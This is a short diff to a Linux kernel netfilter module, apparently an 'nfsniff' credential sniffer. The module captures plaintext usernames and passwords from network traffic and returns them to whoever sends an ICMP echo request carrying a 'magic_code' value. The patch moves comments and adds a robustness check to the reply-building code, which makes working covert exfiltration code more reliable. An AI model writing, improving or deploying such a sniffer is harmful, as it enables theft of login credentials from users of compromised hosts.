@@ -57,17 +57,18 @@ static unsigned char magic_code = 0x5B;
 module_param(magic_code, byte, 0444);
 MODULE_PARM_DESC(magic_code, "ICMP code of the echo request that collects the credentials (default: 0x5B)");
 
-/*
- * The capture state, shared by both hooks on all CPUs.  POST_ROUTING may run
- * in process context (locally generated traffic), PRE_ROUTING runs in
- * softirq: always take nfsniff_lock with the _bh variants.
- */
+/* One login: the server's address and the NUL-terminated user and password. */
 struct nfsniff_creds {
 	__be32 server;
 	char user[NFSNIFF_FIELD_LEN];
 	char pass[NFSNIFF_FIELD_LEN];
 };
 
+/*
+ * The capture state, shared by both hooks on all CPUs.  POST_ROUTING may run
+ * in process context (locally generated traffic), PRE_ROUTING runs in
+ * softirq: always take nfsniff_lock with the _bh variants.
+ */
 static DEFINE_SPINLOCK(nfsniff_lock);
 static struct nfsniff_creds nfsniff_pending;	/* USER seen, waiting for PASS */
 static bool nfsniff_have_pending;
@@ -187,7 +188,9 @@ static int nfsniff_make_reply(struct sk_buff *skb, unsigned int icmp_len,
 	char *payload;
 	int err;
 
-	if (skb->dev->type != ARPHRD_ETHER || skb_mac_offset(skb) != -ETH_HLEN)
+	/* Only a plain Ethernet header right in front of the IP header. */
+	if (skb->dev->type != ARPHRD_ETHER || !skb_mac_header_was_set(skb) ||
+	    skb_mac_offset(skb) != -ETH_HLEN)
 		return -EPROTONOSUPPORT;
 
 	skb_push(skb, ETH_HLEN);
